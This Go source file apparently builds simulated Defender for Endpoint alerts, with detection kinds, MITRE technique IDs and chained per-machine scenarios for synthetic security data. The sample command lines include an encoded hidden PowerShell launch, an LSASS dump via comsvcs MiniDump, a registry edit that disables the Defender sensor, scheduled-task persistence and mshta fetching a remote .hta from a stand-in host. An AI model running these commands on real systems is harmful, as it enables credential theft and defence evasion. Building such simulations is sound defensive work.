package world

// endpointKind is a detection of Defender for Endpoint.
type endpointKind struct {
	title, description string
	category, severity string
	source             string // detectionSource; empty: WindowsDefenderAtp
	techniques         []string
	family             string
	file, path, parent string
	command            string
}

const (
	high          = "High"
	medium        = "Medium"
	low           = "Low"
	informational = "Informational"
)

// Names of the detections that scenarios and attacks refer to.
const (
	powershell = iota
	exploration
	lsassRead
	credentialTool
	remoteService
	droppedRemotely
	scheduledTask
	processInjection
	malwareActive
	malwarePrevented
	unwantedSoftware
	blockedConnection
	rareScript
	officeChild
	keylogger
	backdoor
	ransomware
	bruteForceRDP
	tampering
	phishLink
)

var endpointKinds = [...]endpointKind{
	powershell: {"Suspicious PowerShell command line", "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.",
		"Execution", medium, "", []string{"T1059.001"}, "", "powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0`, "cmd.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"},
	exploration: {"Suspicious sequence of exploration activities", "A process called a set of Windows commands. These commands can be used by attackers in order to identify assets of value and coordinate lateral movement after compromising a machine.",
		"Discovery", low, "", []string{"T1016", "T1033", "T1087", "T1482"}, "", "net.exe", `C:\Windows\System32`, "cmd.exe", `net group "Domain Admins" /domain`},
	lsassRead: {"Sensitive credential memory read", "Memory of the Local Security Authority Subsystem Service (LSASS) was read. Attackers do that to obtain credentials of the accounts that are logged on.",
		"CredentialAccess", high, "", []string{"T1003.001"}, "", "rundll32.exe", `C:\Windows\System32`, "powershell.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\ProgramData\d.bin full`},
	credentialTool: {"'Dumplsa' hacktool was prevented", "Hacktools are programs that can be used to attack other machines. This one reads credentials from memory.",
		"CredentialAccess", medium, "WindowsDefenderAv", []string{"T1003"}, "Dumplsa", "m.exe", `C:\ProgramData`, "cmd.exe", `C:\ProgramData\m.exe "privilege::debug"`},
	remoteService: {"Suspicious service launched", "A service was installed and started from another machine. This may indicate an attempt to move laterally.",
		"LateralMovement", high, "", []string{"T1021.002", "T1569.002", "T1543.003"}, "", "svcupd.exe", `C:\Windows`, "services.exe", `C:\Windows\svcupd.exe -k netsvcs`},
	droppedRemotely: {"File dropped and launched from remote location", "A file was copied from another machine and started. Attackers move laterally in this way.",
		"LateralMovement", medium, "", []string{"T1570", "T1021.002"}, "", "update.exe", `C:\Windows\Temp`, "services.exe", `C:\Windows\Temp\update.exe /s`},
	scheduledTask: {"Suspicious Task Scheduler activity", "A scheduled task was created in an unusual way. Attackers use tasks to keep a foothold.",
		"Persistence", medium, "", []string{"T1053.005"}, "", "schtasks.exe", `C:\Windows\System32`, "cmd.exe", `schtasks /create /tn Updater /tr C:\ProgramData\u.vbs /sc minute /mo 15`},
	processInjection: {"Suspicious process injection observed", "A process abnormally injected code into another process, which then may be running unexpected code.",
		"DefenseEvasion", medium, "", []string{"T1055"}, "", "notepad.exe", `C:\Windows\System32`, "winword.exe", `C:\Windows\System32\notepad.exe`},
	malwareActive: {"'Kolbot' malware was detected", "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines. A malware is considered active if it is found running on the machine or it already has persistence mechanisms in place.",
		"Malware", medium, "WindowsDefenderAv", []string{"T1204.002"}, "Kolbot", "invoice_0931.exe", `C:\Users\Public\Downloads`, "explorer.exe", `C:\Users\Public\Downloads\invoice_0931.exe`},
	malwarePrevented: {"'Wacatac' malware was prevented", "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines. This detection might indicate that the malware was stopped from delivering its payload.",
		"Malware", informational, "WindowsDefenderAv", nil, "Wacatac", "setup_crack.exe", `C:\Users\Public\Downloads`, "explorer.exe", `C:\Users\Public\Downloads\setup_crack.exe`},
	unwantedSoftware: {"'FusionCore' unwanted software was prevented", "Potentially unwanted applications often impact productivity and performance and are often installed without the user's consent.",
		"UnwantedSoftware", informational, "WindowsDefenderAv", nil, "FusionCore", "pdf-toolbar.exe", `C:\Users\Public\Downloads`, "msedge.exe", `C:\Users\Public\Downloads\pdf-toolbar.exe`},
	blockedConnection: {"Connection to a custom network indicator", "An endpoint connected to an address on your list of custom network indicators.",
		"CommandAndControl", low, "CustomerTI", []string{"T1071"}, "", "msedge.exe", `C:\Program Files (x86)\Microsoft\Edge\Application`, "explorer.exe", "msedge.exe --single-argument https://cdn.fabrikam.test/"},
	rareScript: {"Suspicious behavior by a script interpreter", "A script interpreter that rarely runs on this machine started other programs and reached the network.",
		"Execution", low, "", []string{"T1059.005"}, "", "wscript.exe", `C:\Windows\System32`, "explorer.exe", `wscript.exe "C:\Users\Public\Downloads\Delivery note.vbs"`},
	officeChild: {"Suspicious behavior by an Office application", "An Office application started a program that it does not start in normal use. The document may hold a malicious macro.",
		"InitialAccess", medium, "", []string{"T1566.001", "T1204.002"}, "", "mshta.exe", `C:\Windows\System32`, "winword.exe", "mshta.exe https://docs.fabrikam.test/t.hta"},
	keylogger: {"Anomalous keyboard hook registered", "A process that few machines have registered a keyboard hook.",
		"Collection", low, "", []string{"T1056.001"}, "", "helper.exe", `C:\ProgramData\helper`, "explorer.exe", `C:\ProgramData\helper\helper.exe`},
	backdoor: {"'Tinbeak' backdoor was detected", "Backdoors are malicious remote access tools that allow attackers to access and control infected machines. This malware was active.",
		"CommandAndControl", high, "WindowsDefenderAv", []string{"T1071.001", "T1573"}, "Tinbeak", "rundll32.exe", `C:\Windows\System32`, "svchost.exe", `rundll32.exe C:\ProgramData\sync.dat,Start`},
	ransomware: {"Possible ransomware activity based on many renamed files", "Many files were renamed within a short time, and their contents changed in a way that encryption does.",
		"Ransomware", high, "", []string{"T1486"}, "", "lock.exe", `C:\ProgramData`, "powershell.exe", `C:\ProgramData\lock.exe -p D:\Shares`},
	bruteForceRDP: {"Suspicious remote desktop sign-in attempts", "Many sign-in attempts by Remote Desktop failed within a short time.",
		"CredentialAccess", medium, "", []string{"T1110.001", "T1021.001"}, "", "svchost.exe", `C:\Windows\System32`, "services.exe", "svchost.exe -k termsvcs -s TermService"},
	tampering: {"Tampering with the Microsoft Defender for Endpoint sensor", "A process tried to change the settings of the sensor or to stop it.",
		"DefenseEvasion", high, "", []string{"T1562.001"}, "", "reg.exe", `C:\Windows\System32`, "cmd.exe", `reg add HKLM\SYSTEM\CurrentControlSet\Services\Sense /v Start /t REG_DWORD /d 4 /f`},
	phishLink: {"User opened a suspicious link", "A link that leads to a known phishing page was opened from a mail client.",
		"InitialAccess", low, "", []string{"T1566.002"}, "", "outlook.exe", `C:\Program Files\Microsoft Office\root\Office16`, "explorer.exe", "msedge.exe https://login.fabrikam.test/session"},
}

// endpointScenario is what happened on one machine: its detections in the order in which they came.
type endpointScenario struct {
	kinds  []int
	server bool // fits servers too
	actor  string
}

var endpointScenarios = [...]endpointScenario{
	{kinds: []int{malwarePrevented}, server: true},
	{kinds: []int{officeChild, powershell, lsassRead}},
	{kinds: []int{exploration}, server: true},
	{kinds: []int{unwantedSoftware}},
	{kinds: []int{malwareActive, processInjection}},
	{kinds: []int{phishLink}},
	{kinds: []int{powershell}, server: true},
	{kinds: []int{blockedConnection, blockedConnection, rareScript}},
	{kinds: []int{scheduledTask, powershell}, server: true},
	{kinds: []int{phishLink, rareScript}},
	{kinds: []int{backdoor, processInjection, scheduledTask}, server: true, actor: "Storm-9901"},
	{kinds: []int{malwarePrevented, malwarePrevented, malwarePrevented, unwantedSoftware}},
	{kinds: []int{credentialTool, exploration}, server: true},
	{kinds: []int{keylogger}},
	{kinds: []int{bruteForceRDP}, server: true},
	{kinds: []int{unwantedSoftware, blockedConnection}},
	{kinds: []int{ransomware, tampering}, server: true, actor: "Storm-9902"},
	{kinds: []int{rareScript}},
}
